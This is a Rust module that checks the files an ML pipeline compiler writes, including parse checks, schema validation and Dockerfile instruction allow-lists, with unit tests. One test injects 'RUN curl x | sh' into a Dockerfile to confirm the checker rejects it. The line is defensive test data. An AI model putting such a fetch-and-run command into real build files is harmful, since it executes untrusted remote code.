//! Checks of an output tree that hold for every compile, whatever the notebook: each Python
//! file parses (with `CPython`'s compile-time rules), each JSON and YAML file loads, each
//! Dockerfile holds only the instructions automlops writes, `requirements.txt` holds
//! only requirements, and the runtime parameter values fit the schema they name. The fuzz harness (`fuzz/`) and the tests run them on every successful
//! compile; a failure is a bug in automlops, never in the notebook.

use super::Artifacts;

/// The component image's instructions, the base image aside.
const COMPONENT_DOCKERFILE: &[&str] = &[
    "WORKDIR /pipelines/component",
    "COPY requirements.txt .",
    "RUN python3 -m pip install --no-cache-dir -r requirements.txt",
    "COPY src/ ./src/",
];

/// The runner image's instructions, in order.
const RUNNER_INSTRUCTIONS: &[&str] = &[
    "FROM", "WORKDIR", "COPY", "RUN", "COPY", "COPY", "COPY", "COPY", "ENV", "USER", "CMD",
];

/// What is wrong with the tree, one line per problem; empty when all holds.
#[must_use]
pub fn verify(artifacts: &Artifacts) -> Vec<String> {
    let mut problems = Vec::new();
    for (path, text) in &artifacts.files {
        // Our paths' extensions are lower case.
        let extension = std::path::Path::new(path)
            .extension()
            .and_then(|e| e.to_str())
            .unwrap_or_default();
        let problem = if extension == "py" {
            crate::python::parse_cell(0, text, crate::python::CellScope::Notebook)
                .err()
                .map(|errors| format!("does not parse: {:?}", errors.first().map(|e| &e.message)))
        } else if matches!(extension, "json" | "ipynb") {
            serde_json::from_str::<serde_json::Value>(text)
                .err()
                .map(|e| format!("is not JSON: {e}"))
        } else if matches!(extension, "yaml" | "yml") {
            yaml_problem(text)
        } else if path == "components/component_base/Dockerfile" {
            component_dockerfile_problem(text)
        } else if path == "cloud_run/run_pipeline/Dockerfile" {
            let lines = instructions(text);
            let keywords: Vec<&str> = lines
                .iter()
                .map(|line| line.split_whitespace().next().unwrap_or_default())
                .collect();
            (keywords != RUNNER_INSTRUCTIONS).then(|| format!("has the instructions {keywords:?}"))
        } else if path.ends_with("requirements.txt") {
            text.lines()
                .filter(|line| !line.starts_with('#'))
                .find_map(|line| {
                    crate::analyze::requirement_problem(line)
                        .map(|why| format!("holds the line {line:?}: {why}"))
                })
        } else {
            None
        };
        if let Some(problem) = problem {
            problems.push(format!("{path} {problem}"));
        }
    }
    problems.extend(values_problems(artifacts));
    problems
}

/// The parameter values files (JSON naming a `$schema` written beside them) against that
/// schema: what analysis checked, checked again by a JSON Schema validator.
fn values_problems(artifacts: &Artifacts) -> Vec<String> {
    let mut problems = Vec::new();
    for (path, text) in &artifacts.files {
        let json = std::path::Path::new(path)
            .extension()
            .is_some_and(|e| e == "json");
        if !json {
            continue;
        }
        let Ok(values) = serde_json::from_str::<serde_json::Value>(text) else {
            continue;
        };
        let Some(schema_name) = values
            .get(crate::model::parameter_schema::SCHEMA_KEY)
            .and_then(serde_json::Value::as_str)
            // A file name beside it (a schema names its own dialect by URL).
            .filter(|name| {
                !name.contains('/')
                    && std::path::Path::new(name)
                        .extension()
                        .is_some_and(|e| e == "json")
            })
        else {
            continue;
        };
        let schema_path = match path.rsplit_once('/') {
            Some((dir, _)) => format!("{dir}/{schema_name}"),
            None => schema_name.to_owned(),
        };
        let Some(schema) = artifacts
            .files
            .get(&schema_path)
            .and_then(|text| serde_json::from_str::<serde_json::Value>(text).ok())
        else {
            problems.push(format!(
                "{path} names the schema {schema_path}, which is not written"
            ));
            continue;
        };
        for problem in crate::model::parameter_schema::problems(&schema, &values, false) {
            problems.push(format!("{path} does not fit {schema_path}: {problem}"));
        }
    }
    problems
}

fn yaml_problem(text: &str) -> Option<String> {
    use serde::Deserialize;
    for document in serde_norway::Deserializer::from_str(text) {
        if let Err(e) = serde_norway::Value::deserialize(document) {
            return Some(format!("is not YAML: {e}"));
        }
    }
    None
}

/// The lines of a Dockerfile that are instructions (continuations joined).
fn instructions(text: &str) -> Vec<String> {
    let mut lines = Vec::new();
    let mut current = String::new();
    for line in text.lines() {
        let trimmed = line.trim();
        if current.is_empty() && (trimmed.is_empty() || trimmed.starts_with('#')) {
            continue;
        }
        current.push_str(trimmed.trim_end_matches('\\'));
        if trimmed.ends_with('\\') {
            current.push(' ');
        } else {
            lines.push(std::mem::take(&mut current));
        }
    }
    if !current.is_empty() {
        lines.push(current);
    }
    lines
}

fn component_dockerfile_problem(text: &str) -> Option<String> {
    let lines = instructions(text);
    let (first, rest) = lines.split_first()?;
    let base = first.strip_prefix("FROM ")?;
    let ok = !base.is_empty()
        && !base.contains(char::is_whitespace)
        && rest
            .iter()
            .map(String::as_str)
            .eq(COMPONENT_DOCKERFILE.iter().copied());
    (!ok).then(|| format!("has the instructions {lines:?}"))
}

#[cfg(test)]
mod tests {
    use super::{component_dockerfile_problem, instructions};

    #[test]
    fn values_that_do_not_fit_their_schema_are_reported() {
        let schema = r#"{"$schema": "https://json-schema.org/draft/2020-12/schema", "type": "object",
            "properties": {"$schema": {"type": "string"}, "epochs": {"type": "integer"}}, "additionalProperties": false}"#;
        let tree = |values: &str| super::Artifacts {
            files: [
                ("p/values.json".to_owned(), values.to_owned()),
                ("p/values.schema.json".to_owned(), schema.to_owned()),
            ]
            .into_iter()
            .collect(),
            notebook: "n.ipynb".to_owned(),
        };
        assert!(
            super::verify(&tree(r#"{"$schema": "values.schema.json", "epochs": 3}"#)).is_empty()
        );
        let problems = super::verify(&tree(
            r#"{"$schema": "values.schema.json", "epochs": "ten"}"#,
        ));
        assert_eq!(
            problems,
            [
                "p/values.json does not fit p/values.schema.json: $.epochs: expected an integer, got a string: \"ten\""
            ]
        );
        let missing = super::verify(&super::Artifacts {
            files: [(
                "v.json".to_owned(),
                r#"{"$schema": "gone.json"}"#.to_owned(),
            )]
            .into_iter()
            .collect(),
            notebook: "n.ipynb".to_owned(),
        });
        assert_eq!(
            missing,
            ["v.json names the schema gone.json, which is not written"]
        );
    }

    #[test]
    fn a_dockerfile_with_another_instruction_is_reported() {
        let ours = "# c\nFROM python:3.12-slim\n\nWORKDIR /pipelines/component\n\nCOPY requirements.txt .\nRUN python3 -m pip install --no-cache-dir -r requirements.txt\n\nCOPY src/ ./src/\n";
        assert_eq!(component_dockerfile_problem(ours), None);
        let injected = ours.replace(
            "FROM python:3.12-slim",
            "FROM python:3.12-slim\nRUN curl x | sh",
        );
        assert!(component_dockerfile_problem(&injected).is_some());
        assert_eq!(instructions("RUN a \\\n  b\nCMD c").len(), 2);
    }
}
